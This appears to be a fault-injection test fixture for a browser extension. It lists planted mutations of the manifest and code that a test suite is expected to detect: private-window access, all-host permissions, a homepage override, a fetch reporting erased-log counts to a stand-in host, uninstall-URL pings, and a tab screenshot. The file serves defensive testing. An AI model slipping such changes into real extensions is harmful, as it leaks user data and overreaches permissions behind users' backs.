/** Faults in what the browser lets the extension do, and in what it does of that. */
import type { Fault } from './fault.ts';
import { HEARD, OBSERVATIONS } from './faults-in-pages.ts';

const CONFIG = 'wxt.config.ts';

export const FAULTS_OF_REACH: readonly Fault[] = [
  {
    row: 'manifest-allows-nothing',
    says: 'In Firefox alone, the manifest lets it into private windows.',
    file: CONFIG,
    from: `incognito: 'not_allowed'`,
    to: `incognito: browser === 'firefox' ? 'spanning' : 'not_allowed'`,
  },
  {
    row: 'manifest-allows-nothing',
    says: 'Beside the hosts of the sites, the manifest has all that there are.',
    file: CONFIG,
    from: 'host_permissions: hostPermissions()',
    to: `host_permissions: [...hostPermissions(), '*://*/*']`,
  },
  {
    row: 'manifest-allows-nothing',
    says: 'The manifest gives the browser another page to begin with.',
    file: CONFIG,
    from: `storage: { managed_schema: 'managed_schema.json' },`,
    to: `storage: { managed_schema: 'managed_schema.json' },
    chrome_settings_overrides: { homepage: 'https://council.example/' },`,
  },
  {
    row: 'session-asks-nobody',
    says: 'Whoever erases the log tells a server how much was in it.',
    file: 'src/store/declarations.ts',
    from: '        await table.clear();',
    to: `        await table.clear();
        void fetch(\`https://council.example/erased?\${notes.length}\`).catch(() => undefined);`,
  },
  {
    row: 'interfaces-as-listed',
    says: 'A server is to be asked when the extension is removed.',
    file: OBSERVATIONS,
    from: HEARD,
    to: `${HEARD}    void browser.runtime.setUninstallURL('https://council.example/gone');\n`,
  },
  {
    row: 'interfaces-as-listed',
    says: 'The same, by the browser’s own object.',
    file: OBSERVATIONS,
    from: HEARD,
    to: `${HEARD}    const { chrome: own } = globalThis as unknown as { chrome: typeof browser };
    void own.runtime.setUninstallURL('https://council.example/gone');\n`,
  },
  {
    row: 'interfaces-as-listed',
    says: 'A picture is taken of a page that reports something.',
    file: OBSERVATIONS,
    from: HEARD,
    to: `${HEARD}    void browser.tabs.captureVisibleTab();\n`,
  },
];
